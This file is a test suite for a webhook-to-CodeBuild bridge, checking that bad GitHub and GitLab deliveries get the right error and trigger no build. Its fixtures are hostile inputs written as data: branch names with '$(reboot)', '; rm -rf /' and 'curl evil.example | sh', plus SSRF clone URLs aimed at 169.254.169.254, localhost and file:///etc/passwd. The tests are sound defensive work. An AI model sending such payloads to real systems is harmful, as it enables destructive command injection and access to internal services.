"""The bad-input catalogue: every way a delivery can be wrong, with the exact answer and no build.

Each case is one request (after an optional legitimate prelude, for replays) against the real app
and worker. The answer's status and key are checked, and then the worker drains everything that was
persisted: the CodeBuild double must have received no StartBuild beyond the prelude's. Hostile
refs that do get built are checked separately: they reach StartBuild only as data.
"""

from __future__ import annotations

import json
import time
import urllib.parse
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any

import pytest

from bridge import routing
from bridge.config import GitHubSettings, GitLabSettings, github_web_host
from bridge.model import SourceEvent
from bridge.secrets import SecretRef
from tests.e2e.support import (
    GITHUB_SECRET,
    Delivery,
    github_delivery,
    github_payload,
    gitlab_delivery,
    gitlab_payload,
)
from tests.reliability.rig import LIMIT, RigFactory
from tests.signing import new_standard_webhook_secret, standard_webhook_headers

SIGNING = new_standard_webhook_secret()
ZERO_SHA = "0" * 40


def _with(delivery: Delivery, **headers: str) -> Delivery:
    merged = {k: v for k, v in delivery.headers.items() if k.lower() not in {h.lower() for h in headers}}
    return replace(delivery, headers={**merged, **headers})


def _without(delivery: Delivery, name: str) -> Delivery:
    return replace(delivery, headers={k: v for k, v in delivery.headers.items() if k.lower() != name.lower()})


def push(**changes: Any) -> dict[str, Any]:
    """The published branch push (refs/heads/master of Codertocat/Hello-World) with changes applied."""
    payload = github_payload("push", None, 4)
    for path, value in changes.items():
        target = payload
        *parents, leaf = path.split("__")
        for parent in parents:
            target = target[parent]
        target[leaf] = value
    return payload


def pr(**head_repo: Any) -> dict[str, Any]:
    payload = github_payload("pull_request", "opened", 1)
    payload["pull_request"]["head"]["repo"].update(head_repo)
    return payload


def fork_pr() -> dict[str, Any]:
    return pr(
        full_name="mallory/Hello-World", clone_url="https://github.com/mallory/Hello-World.git", fork=True
    )


def gl_push(**changes: Any) -> dict[str, Any]:
    payload = gitlab_payload("push")
    for path, value in changes.items():
        target = payload
        *parents, leaf = path.split("__")
        for parent in parents:
            target = target[parent]
        target[leaf] = value
    return payload


def gl_mr_source(url: str) -> dict[str, Any]:
    payload = gitlab_payload("merge_request_open")
    payload["object_attributes"]["source"]["git_http_url"] = url
    return payload


def signed_gitlab(payload: dict[str, Any] | bytes, *, timestamp: float, msg_id: str = "") -> Delivery:
    body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    delivery = gitlab_delivery(payload)  # the hook has both a secret token and a signing token
    headers = standard_webhook_headers(body, SIGNING, msg_id or f"msg_{uuid.uuid4().hex}", int(timestamp))
    return replace(delivery, headers={**delivery.headers, **headers})


def nested(depth: int) -> bytes:
    """Objects inside objects: 40,000 levels stay under the body limit (5 bytes a level)."""
    return b'{"a":' * depth + b"1" + b"}" * depth


def nested_arrays(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


@dataclass(frozen=True)
class Case:
    name: str
    request: Callable[[], Delivery]
    status: int
    key: str  # the key the JSON answer must carry: error, ignored, duplicate
    prelude: tuple[Callable[[], Delivery], ...] = ()  # legitimate deliveries sent first (replays)
    signing: bool = False  # the GitLab hook uses a signing token instead of a secret token
    reason: str = ""  # a fragment the answer's text must contain
    prelude_builds: int = 0
    tags: tuple[str, ...] = field(default=())
    environ: dict[str, str] = field(default_factory=dict)  # WSGI environ overrides (a lying Content-Length)


_REPLAYED = github_delivery("push", push(), delivery_id="replayed-1")
_REPLAYED_SIGNED_ID = f"msg_{uuid.uuid4().hex}"
_BIG = b'{"zen": "' + b"x" * LIMIT + b'"}'

CASES: list[Case] = [
    # -- GitHub: who sent it -------------------------------------------------------------------
    Case("unsigned", lambda: _without(github_delivery("push", push()), "X-Hub-Signature-256"), 401, "error"),
    Case("wrong secret", lambda: github_delivery("push", push(), secret="guess"), 401, "error"),
    Case(
        "signature not hex",
        lambda: _with(github_delivery("push", push()), **{"X-Hub-Signature-256": "sha256=zz"}),
        401,
        "error",
    ),
    Case(
        "signature with no algorithm",
        lambda: _with(github_delivery("push", push()), **{"X-Hub-Signature-256": "0" * 64}),
        401,
        "error",
    ),
    Case(
        "signature over a different body",
        lambda: replace(github_delivery("push", push()), body=json.dumps(push(after="f" * 40)).encode()),
        401,
        "error",
    ),
    Case(
        "sha1-only header",
        lambda: _with(
            _without(github_delivery("push", push()), "X-Hub-Signature-256"),
            **{"X-Hub-Signature": "sha1=" + "a" * 40},
        ),
        401,
        "error",
    ),
    Case(
        "empty signature header",
        lambda: _with(github_delivery("push", push()), **{"X-Hub-Signature-256": ""}),
        401,
        "error",
    ),
    Case(
        "replayed delivery id",
        lambda: _REPLAYED,
        200,
        "duplicate",
        prelude=(lambda: _REPLAYED,),
        prelude_builds=1,
    ),
    Case(
        "same payload replayed under the same id with a fresh signature",
        lambda: github_delivery("push", push(), delivery_id="replayed-2"),
        200,
        "duplicate",
        prelude=(lambda: github_delivery("push", push(), delivery_id="replayed-2"),),
        prelude_builds=1,
    ),
    # -- GitHub: what was sent -----------------------------------------------------------------
    Case(
        "missing X-GitHub-Event",
        lambda: _without(github_delivery("push", push()), "X-GitHub-Event"),
        400,
        "error",
    ),
    Case(
        "missing X-GitHub-Delivery",
        lambda: _without(github_delivery("push", push()), "X-GitHub-Delivery"),
        400,
        "error",
    ),
    Case("unknown event", lambda: github_delivery("made_up_event", push()), 200, "ignored"),
    Case("malformed JSON", lambda: github_delivery("push", b'{"ref": "refs/heads/master",'), 400, "error"),
    Case("empty body", lambda: github_delivery("push", b""), 400, "error"),
    Case("JSON array", lambda: github_delivery("push", b"[]"), 400, "error", reason="list"),
    Case("JSON string", lambda: github_delivery("push", b'"push"'), 400, "error", reason="str"),
    Case("JSON null", lambda: github_delivery("push", b"null"), 400, "error"),
    Case("invalid UTF-8", lambda: github_delivery("push", b'{"ref": "\xff\xfe"}'), 400, "error"),
    Case(
        "wrong content type",
        lambda: _with(github_delivery("push", push()), **{"Content-Type": "text/plain"}),
        400,
        "error",
        reason="Content-Type",
    ),
    Case(
        "form-encoded body",
        lambda: _with(
            github_delivery("push", b"payload=" + json.dumps(push()).encode()),
            **{"Content-Type": "application/x-www-form-urlencoded"},
        ),
        400,
        "error",
        reason="Content-Type",
    ),
    Case("body over the limit", lambda: github_delivery("push", _BIG), 413, "error"),
    Case(
        "body shorter than its Content-Length",
        lambda: github_delivery("push", push()),
        400,
        "error",
        reason="declared bytes",
        environ={"CONTENT_LENGTH": "100000"},  # more than it sends, under the limit
    ),
    Case("objects nested 40,000 levels", lambda: github_delivery("push", nested(40_000)), 400, "error"),
    Case(
        "array nested 100,000 levels", lambda: github_delivery("push", nested_arrays(100_000)), 400, "error"
    ),
    Case("push with fields of the wrong type", lambda: github_delivery("push", push(after=42)), 400, "error"),
    Case(
        "push without repository", lambda: github_delivery("push", {"ref": "refs/heads/master"}), 400, "error"
    ),
    # -- GitHub: refs and hosts ----------------------------------------------------------------
    Case(
        "unicode branch name",
        lambda: github_delivery("push", push(ref="refs/heads/ünïcødé-🚀")),
        200,
        "ignored",
        reason="ünïcødé-🚀",
    ),
    Case(
        "control characters in branch name",
        lambda: github_delivery("push", push(ref="refs/heads/a\u0000b\nc\u001b[31m")),
        200,
        "ignored",
    ),
    Case(
        "command substitution in branch name",
        lambda: github_delivery("push", push(ref="refs/heads/$(reboot)")),
        200,
        "ignored",
    ),
    Case(
        "shell separators in branch name",
        lambda: github_delivery("push", push(ref="refs/heads/; rm -rf /")),
        200,
        "ignored",
    ),
    Case(
        "ref that is neither branch nor tag",
        lambda: github_delivery("push", push(ref="refs/notes/x")),
        200,
        "ignored",
    ),
    Case(
        "deleted branch push",
        lambda: github_delivery("push", push(deleted=True, after=ZERO_SHA)),
        200,
        "ignored",
    ),
    Case(
        "clone URL on the metadata address (SSRF)",
        lambda: github_delivery(
            "push", push(repository__clone_url="http://169.254.169.254/latest/meta-data")
        ),
        200,
        "ignored",
        reason="169.254.169.254",
    ),
    Case(
        "html URL on another host",
        lambda: github_delivery(
            "push", push(repository__html_url="https://internal.example/Codertocat/Hello-World")
        ),
        200,
        "ignored",
        reason="internal.example",
    ),
    Case(
        "clone URL with userinfo pointing elsewhere",
        lambda: github_delivery("push", push(repository__clone_url="https://github.com@10.0.0.1/x.git")),
        200,
        "ignored",
    ),
    Case(
        "clone URL with another scheme",
        lambda: github_delivery("push", push(repository__clone_url="file:///etc/passwd")),
        200,
        "ignored",
    ),
    Case(
        "fork PR whose head clone URL is internal",
        lambda: github_delivery("pull_request", pr(fork=True, clone_url="http://localhost:8080/x.git")),
        200,
        "ignored",
        reason="localhost",
    ),
    Case(
        "repository not allowlisted",
        lambda: github_delivery("push", push(repository__full_name="mallory/Hello-World")),
        200,
        "ignored",
        reason="no route",
    ),
    Case(
        "fork PR under forks = never",
        lambda: github_delivery("pull_request", fork_pr()),
        200,
        "ignored",
        reason="fork",
    ),
    # -- GitLab ----------------------------------------------------------------------------------
    Case("gitlab wrong token", lambda: gitlab_delivery(gl_push(), token="guess"), 401, "error"),
    Case("gitlab missing token", lambda: gitlab_delivery(gl_push(), token=None), 401, "error"),
    Case(
        "gitlab missing X-Gitlab-Event",
        lambda: _without(gitlab_delivery(gl_push()), "X-Gitlab-Event"),
        400,
        "error",
    ),
    Case("gitlab unknown event", lambda: gitlab_delivery(gl_push(), event="Made Up Hook"), 200, "ignored"),
    Case("gitlab malformed JSON", lambda: gitlab_delivery(b"{", event="Push Hook"), 400, "error"),
    Case("gitlab JSON array", lambda: gitlab_delivery(b"[1]", event="Push Hook"), 400, "error"),
    Case(
        "gitlab form-encoded body",
        lambda: gitlab_delivery(
            urllib.parse.urlencode({"payload": json.dumps(gitlab_payload("push"))}).encode(),
            event="Push Hook",
        ),
        400,
        "error",
        reason="set the webhook's Content type to application/json",
    ),
    Case(
        "gitlab arrays nested 100,000 levels",
        lambda: gitlab_delivery(nested_arrays(100_000), event="Push Hook"),
        400,
        "error",
    ),
    Case(
        "gitlab deleted branch push",
        lambda: gitlab_delivery(gitlab_payload("push_branch_deleted")),
        200,
        "ignored",
    ),
    Case(
        "gitlab MR update without new commits",
        lambda: gitlab_delivery(gitlab_payload("merge_request_update_title")),
        200,
        "ignored",
        reason="without new commits",
    ),
    Case(
        "gitlab fork MR under forks = never",
        lambda: gitlab_delivery(gitlab_payload("merge_request_fork_open")),
        200,
        "ignored",
        reason="fork",
    ),
    Case(
        "gitlab clone URL on the metadata address (SSRF)",
        lambda: gitlab_delivery(gl_push(project__git_http_url="http://169.254.169.254/x.git")),
        200,
        "ignored",
        reason="169.254.169.254",
    ),
    Case(
        "gitlab MR source on an internal host (SSRF)",
        lambda: gitlab_delivery(gl_mr_source("http://10.1.2.3/awesome_space/awesome_project.git")),
        200,
        "ignored",
        reason="10.1.2.3",
    ),
    Case(
        "gitlab project not allowlisted",
        lambda: gitlab_delivery(gl_push(project__path_with_namespace="mallory/diaspora")),
        200,
        "ignored",
    ),
    Case(
        "gitlab shell separators in branch name",
        lambda: gitlab_delivery(gl_push(ref="refs/heads/; rm -rf /")),
        200,
        "ignored",
    ),
    # -- GitLab signing tokens (Standard Webhooks) -------------------------------------------------
    Case(
        "stale Standard-Webhooks timestamp",
        lambda: signed_gitlab(gl_push(), timestamp=time.time() - 3600),
        401,
        "error",
        signing=True,
        reason="old",
    ),
    Case(
        "future Standard-Webhooks timestamp",
        lambda: signed_gitlab(gl_push(), timestamp=time.time() + 3600),
        401,
        "error",
        signing=True,
        reason="future",
    ),
    Case(
        "Standard-Webhooks signature without the webhook-id header",
        lambda: _without(signed_gitlab(gl_push(), timestamp=time.time()), "webhook-id"),
        401,
        "error",
        signing=True,
    ),
    Case(
        "replayed Standard-Webhooks message id",
        lambda: signed_gitlab(gl_push(), timestamp=time.time(), msg_id=_REPLAYED_SIGNED_ID),
        200,
        "duplicate",
        signing=True,
        prelude=(lambda: signed_gitlab(gl_push(), timestamp=time.time(), msg_id=_REPLAYED_SIGNED_ID),),
        prelude_builds=1,
    ),
]


def test_the_catalogue_is_complete() -> None:
    assert len(CASES) >= 30
    assert len({case.name for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_bad_input_is_answered_and_builds_nothing(rig_factory: RigFactory, case: Case) -> None:
    rig = rig_factory(signing_secret=SIGNING) if case.signing else rig_factory()
    for earlier in case.prelude:
        assert rig.send(earlier()).status_code == 202
    assert rig.builds_started() == case.prelude_builds

    response = rig.send(case.request(), case.environ)

    assert response.status_code == case.status, response.get_data(as_text=True)
    assert response.mimetype == "application/json"
    body = response.get_json()
    assert body[case.key]
    if case.status >= 400:
        assert set(body) == {"error", "hint"}
    assert case.reason in json.dumps(body, ensure_ascii=False)
    assert rig.builds_started() == case.prelude_builds  # nothing more started, ever
    assert GITHUB_SECRET not in response.get_data(as_text=True)


# -- hostile refs that ARE routed: only ever data -----------------------------------------------------

HOSTILE_REFS = ["$(reboot)", "; rm -rf /", "`id`", "a'b\"c", "ünïcødé-🚀", "x && curl evil.example | sh"]


def _wildcard(text: str) -> str:
    return text.replace('branches = ["master"]', 'branches = ["*"]')


@pytest.mark.parametrize("branch", HOSTILE_REFS)
def test_hostile_branch_names_reach_start_build_only_as_plaintext_data(
    rig_factory: RigFactory, branch: str
) -> None:
    """sourceVersion is the commit sha; the branch travels only in a PLAINTEXT variable's value.

    CodeBuild passes variables to the build as environment values, never through a shell, and the
    packaged buildspecs quote every use: a name like `$(reboot)` stays a string.
    """
    rig = rig_factory(edit=_wildcard)
    payload = push(ref=f"refs/heads/{branch}")

    assert (
        rig.send(github_delivery("push", payload, delivery_id=f"hostile-{uuid.uuid4()}")).status_code == 202
    )

    (params,) = rig.start_build_params()
    assert params["sourceVersion"] == payload["after"]
    assert params["sourceLocationOverride"] == "https://github.com/Codertocat/Hello-World.git"
    carrying = [var for var in params.get("environmentVariablesOverride", []) if branch in var["value"]]
    assert carrying, "the ref should be available to the build as data"
    assert all(var["type"] == "PLAINTEXT" and var["name"].startswith("BRIDGE_") for var in carrying)
    everywhere_else = json.dumps({k: v for k, v in params.items() if k != "environmentVariablesOverride"})
    assert branch not in everywhere_else
    assert json.dumps(branch)[1:-1] not in everywhere_else


# -- fork pull requests under each policy -------------------------------------------------------------------

SECRET_ENV = 'env = { NPM_TOKEN = "secretsmanager:ci/npm#token", MODE = "ci" }'


@pytest.mark.parametrize(
    ("policy", "status", "builds", "secret_names"),
    [("never", 200, 0, None), ("without-secrets", 202, 1, set()), ("allow", 202, 1, {"NPM_TOKEN"})],
)
def test_fork_pull_request_under_each_policy(
    rig_factory: RigFactory, policy: str, status: int, builds: int, secret_names: set[str] | None
) -> None:
    rig = rig_factory(github_route_extra=f'forks = "{policy}"\n{SECRET_ENV}')

    response = rig.send(github_delivery("pull_request", fork_pr()))

    assert response.status_code == status, response.get_json()
    assert rig.builds_started() == builds
    if secret_names is not None:
        (params,) = rig.start_build_params()
        variables = params["environmentVariablesOverride"]
        assert {var["name"] for var in variables if var["type"] == "SECRETS_MANAGER"} == secret_names
        assert "MODE" in {var["name"] for var in variables}
        assert params["sourceLocationOverride"] == "https://github.com/mallory/Hello-World.git"


# -- the repository host rule, as a pure function --------------------------------------------------------


def _event(clone_url: str, server_url: str = "https://github.com") -> SourceEvent:
    return SourceEvent(
        provider="github",
        kind="push",
        event_name="push",
        action=None,
        repository="o/r",
        clone_url=clone_url,
        sha="a" * 40,
        ref="refs/heads/main",
        server_url=server_url,
        branch="main",
    )


@pytest.mark.parametrize(
    ("clone_url", "allowed"),
    [
        ("https://github.com/o/r.git", True),
        ("https://GitHub.com/o/r.git", True),
        ("https://github.com./o/r.git", True),
        ("http://169.254.169.254/latest", False),
        ("https://github.com.evil.example/o/r.git", False),
        ("https://github.com@evil.example/o/r.git", False),
        ("https://evil.example\\@github.com/o/r.git", False),
        ("https://github.com:443@evil.example/", False),
        ("ssh://git@github.com/o/r.git", False),
        ("git@github.com:o/r.git", False),
        ("https://[::1/o/r.git", False),
        ("https://github.com /o/r.git", False),
        ("", False),
    ],
)
def test_foreign_host(clone_url: str, allowed: bool) -> None:
    result = routing.foreign_host(_event(clone_url), ["github.com"])
    assert (result is None) is allowed
    assert routing.foreign_host(_event("https://github.com/o/r.git", "https://evil.example"), ["github.com"])


@pytest.mark.parametrize(
    ("api_url", "host"),
    [
        ("https://api.github.com", "github.com"),
        ("https://api.acme.ghe.com", "acme.ghe.com"),
        ("https://ghe.example.com/api/v3", "ghe.example.com"),
        ("https://api.example.com/api/v3", "api.example.com"),
    ],
)
def test_default_repository_hosts_follow_the_configured_server(api_url: str, host: str) -> None:
    assert github_web_host(api_url) == host
    secrets = (SecretRef("env", "X"),)
    assert GitHubSettings(webhook_secrets=secrets, api_url=api_url).allowed_hosts == (host,)
    assert GitHubSettings(webhook_secrets=secrets, repository_hosts=("a.example",)).allowed_hosts == (
        "a.example",
    )
    gitlab = GitLabSettings(token=secrets[0], url="https://gitlab.example.com/sub")
    assert gitlab.allowed_hosts == ("gitlab.example.com",)
